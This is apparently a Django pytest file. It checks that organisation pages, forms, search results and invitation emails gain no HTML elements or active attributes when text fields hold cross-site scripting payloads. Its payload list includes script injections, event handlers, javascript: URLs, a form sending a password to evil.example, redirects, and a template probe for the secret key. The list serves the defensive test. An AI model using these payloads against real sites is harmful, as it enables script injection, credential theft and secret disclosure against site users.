"""Script in every text field: the pages that show it gain no element, attribute or address."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.core import mail
from django.urls import reverse

from accounts.models import User
from partners import emails
from partners.forms import OrganisationForm
from partners.models import (
    Invitation,
    Organisation,
    OrganisationIdentifier,
    OrganisationName,
    Verification,
)
from tests.factories import InvitationFactory, UserFactory, VerificationFactory

pytestmark = pytest.mark.django_db

PLAIN = "plain"
WEBSITE = "https://wells.example/"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/x>alert(1)</script/x>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=//evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</dd></dl><h1>forged</h1>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"autofocus/onfocus=alert(1)//',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "%(organisation)s %s {0} ${7*7} #{7*7}",
    "\u202e<img src=x onerror=alert(1)>\u202c",
]
# Attributes that lead somewhere or do something: their values may not change either.
ACTIVE = ("href", "src", "action", "formaction", "style", "srcdoc", "data")


def _together(shortest_field: int = 120) -> list[str]:
    """As many at a time as the shortest field holds, for every page is drawn for each."""
    texts = [""]
    for payload in PAYLOADS:
        longer = f"{texts[-1]} {payload}".strip()
        texts[-1:] = [longer] if len(longer) <= shortest_field else [texts[-1], payload]
    return texts


TOGETHER = _together()


class Skeleton(HTMLParser):
    """Elements and their attributes; the text between them left out."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        kept = [(name, self._value(name, value or "")) for name, value in attrs]
        self.elements.append((tag, *kept))

    def handle_endtag(self, tag):
        self.elements.append((f"/{tag}",))

    def handle_comment(self, data):
        self.elements.append(("!--",))

    def handle_decl(self, decl):
        self.elements.append(("!", decl))

    def handle_pi(self, data):
        self.elements.append(("?",))

    def unknown_decl(self, data):
        self.elements.append(("![",))

    @staticmethod
    def _value(name: str, value: str) -> str | None:
        if value.startswith(WEBSITE):
            return WEBSITE
        return value if name in ACTIVE or name.startswith("on") else None


@pytest.fixture
def full_house(house):
    """Everything that holds text is there once."""
    house.rows = {
        "name": OrganisationName.objects.create(
            organisation=house.organisation, kind="alias", value=PLAIN
        ),
        "identifier": OrganisationIdentifier.objects.create(
            organisation=house.organisation, scheme="national", value=PLAIN
        ),
        "invitation": InvitationFactory(
            organisation=house.organisation, invited_by=house.viewer, token="token"
        ),
        "verification": VerificationFactory(
            organisation=house.organisation, requested_by=house.viewer, status="requested"
        ),
    }
    VerificationFactory(organisation=house.organisation, requested_by=house.viewer)
    house.invited = UserFactory(email=house.rows["invitation"].email)
    return house


def write(house, text: str) -> None:
    """Put `text` into every field that takes any, past what the forms would refuse."""
    Organisation.objects.update(
        name=text,
        city=text,
        description=text,
        capabilities=text,
        website=WEBSITE + "".join(text.split()),
    )
    OrganisationName.objects.update(value=text)
    OrganisationIdentifier.objects.update(value=text[:80])
    Verification.objects.update(
        note=text, reason=text, document_name=text, identifier=house.rows["identifier"],
        document="evidence/x.pdf",
    )  # fmt: skip
    User.objects.update(name=text)


def addresses(house) -> list[tuple[str, str]]:
    """Who looks at which page."""
    slug, seat = house.organisation.slug, house.seats["viewer"].pk
    decision = [house.rows["verification"].pk]
    pages = [
        *(
            ("owner", reverse(name, args=[slug]))
            for name in (
                "show_organisation", "manage_organisation", "edit_organisation", "edit_names",
                "edit_logo", "list_members", "leave_organisation", "hand_over_organisation",
                "invite_member", "show_verification", "request_verification",
            )
        ),
        ("owner", reverse("edit_member", args=[slug, seat])),
        ("owner", reverse("remove_member", args=[slug, seat])),
        ("owner", reverse("list_my_organisations")),
        ("owner", reverse("show_account")),
        ("visitor", reverse("show_organisation", args=[slug])),
        ("visitor", reverse("list_organisations")),
        ("visitor", reverse("answer_invitation", args=["token"])),
        ("invited", reverse("show_dashboard")),
        ("staff", reverse("verifications:index")),
        ("staff", reverse("organisations:index")),
        ("staff", reverse("verifications:decide", args=decision)),
    ]  # fmt: skip
    return pages


@pytest.fixture
def visitors(full_house, signed_in, verifier, client):
    return {
        "owner": signed_in(full_house.owner),
        "invited": signed_in(full_house.invited),
        "staff": signed_in(verifier, second_factor=True),
        "visitor": client,
    }


def skeleton(client, address: str, data: dict | None = None) -> list[tuple]:
    response = client.get(address) if data is None else client.post(address, data)
    assert response.status_code == 200, (address, response.status_code)
    return Skeleton(response.content.decode()).elements


def test_pages_gain_nothing_from_script_in_any_field(full_house, visitors):
    write(full_house, PLAIN)
    pages = addresses(full_house)
    plain = {page: skeleton(visitors[page[0]], page[1]) for page in pages}
    changed = []
    for text in TOGETHER:
        write(full_house, text)
        changed += [
            (text, *page) for page in pages if skeleton(visitors[page[0]], page[1]) != plain[page]
        ]
    assert changed == []


def test_forms_gain_nothing_from_script_sent_back(full_house, visitors):
    slug = full_house.organisation.slug
    forms = {
        reverse("edit_organisation", args=[slug]): ["name", "city", "description", "website"],
        reverse("invite_member", args=[slug]): ["email", "role", "language"],
        reverse("request_verification", args=[slug]): ["note", "email", "evidence_kind"],
        reverse("found_organisation"): ["name", "kind", "country", "language", "divisions"],
    }
    for address, fields in forms.items():
        plain = skeleton(visitors["owner"], address, dict.fromkeys(fields, "?"))
        for text in TOGETHER:
            sent = skeleton(visitors["owner"], address, dict.fromkeys(fields, text))
            assert sent == plain, (address, text)


def test_search_gains_nothing_from_script_in_the_address(client):
    here = reverse("list_organisations")
    for text in PAYLOADS:
        response = client.get(here, {"q": text, "kind": text, "country": text, text: text})
        tags = {tag for tag, *_rest in Skeleton(response.content.decode()).elements}
        assert tags.isdisjoint({"img", "iframe", "object", "embed", "base", "style", "math"})


def test_messages_by_mail_gain_nothing_from_script(full_house):
    def message(text: str) -> list[tuple]:
        write(full_house, text)
        mail.outbox.clear()
        row = Invitation.objects.select_related("organisation", "invited_by").get()
        emails.invitation(row, token="token")
        html = mail.outbox[0].alternatives[0].content
        return [element for element in Skeleton(html).elements if element[0] not in ("a", "/a")]

    plain = message(PLAIN)
    assert [text for text in PAYLOADS if message(text) != plain] == []


@pytest.mark.parametrize("field", ["name", "city", "description", "capabilities"])
def test_script_is_kept_as_the_text_it_is(house, field):
    """It is shown as typed: who writes about <b> or 3 < 4 loses nothing."""
    data = {"name": "Wells", "language": "en", "kind": "firm", "country": "KE"}
    for text in PAYLOADS:
        form = OrganisationForm({**data, field: text})
        assert form.is_valid(), text
        assert form.cleaned_data[field] == text


def test_skeleton_sees_what_it_is_meant_to_see():
    plain = Skeleton(f"<p>{PLAIN}</p>").elements
    seen = [text for text in PAYLOADS if Skeleton(f"<p>{text}</p>").elements != plain]
    assert len(seen) > 30
    assert " ".join(TOGETHER) == " ".join(PAYLOADS)
    assert Skeleton('<a title="a">').elements == Skeleton('<a title="b">').elements
    assert Skeleton('<a href="a">').elements != Skeleton('<a href="b">').elements
    assert Skeleton("<a>").elements != Skeleton("<a onclick=x>").elements
